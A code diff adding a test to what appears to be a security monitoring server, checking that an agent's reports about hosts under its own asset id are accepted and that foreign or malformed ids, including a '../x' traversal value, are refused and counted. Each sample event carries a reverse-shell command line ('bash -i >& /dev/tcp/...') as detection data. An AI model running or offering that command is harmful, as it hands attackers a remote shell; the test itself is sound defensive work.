@@ -123,6 +123,32 @@ test('an agent speaks for its own asset only; what is refused is counted and kep
   mine.cut()
 })
 
+test('an agent may tell of hosts below its own id; they are listed in its group, others are refused', async () => {
+  const mine = await enrolled()
+  const other = await enrolled()
+  await mine.connect()
+  const below = (id: string, number: number, name = 'db-1') => ({
+    ...mine.started(number, 'bash -i >& /dev/tcp/198.51.100.1/1'),
+    id: `${id}/received-1/${number}`,
+    asset: { id, name, kind: 'host' },
+  })
+  const host = `${mine.enrolment.assetId}~0123456789abcdef`
+  const before = refusedLines().split('"code":"event.foreign-asset"').length
+  await mine.deliver(1, [
+    below(host, 1),
+    below(`${other.enrolment.assetId}~0123456789abcdef`, 2),
+    below(`${mine.enrolment.assetId}~0123456789abcdef~0123456789abcdef`, 3),
+    below(`${mine.enrolment.assetId}~../x`, 4),
+    below(`${mine.enrolment.assetId}0123456789abcdef`, 5),
+    { ...below(host, 6), id: `${mine.enrolment.assetId}/received-1/6` },
+  ])
+  assert.equal(refusedLines().split('"code":"event.foreign-asset"').length - before, 4)
+  const listed = (await browser.fetch('GET', `/api/v1/assets/${encodeURIComponent(host)}`)).body
+  assert.deepEqual([listed.name, listed.agent.state, listed.group], ['db-1', 'never connected', null])
+  assert.equal((await alerts(`asset=${encodeURIComponent(host)}`)).items[0].count, 1)
+  mine.cut()
+})
+
 test('a batch that cannot be read is set aside and does not stop the next one', async () => {
   const agent = await enrolled()
   await agent.connect()
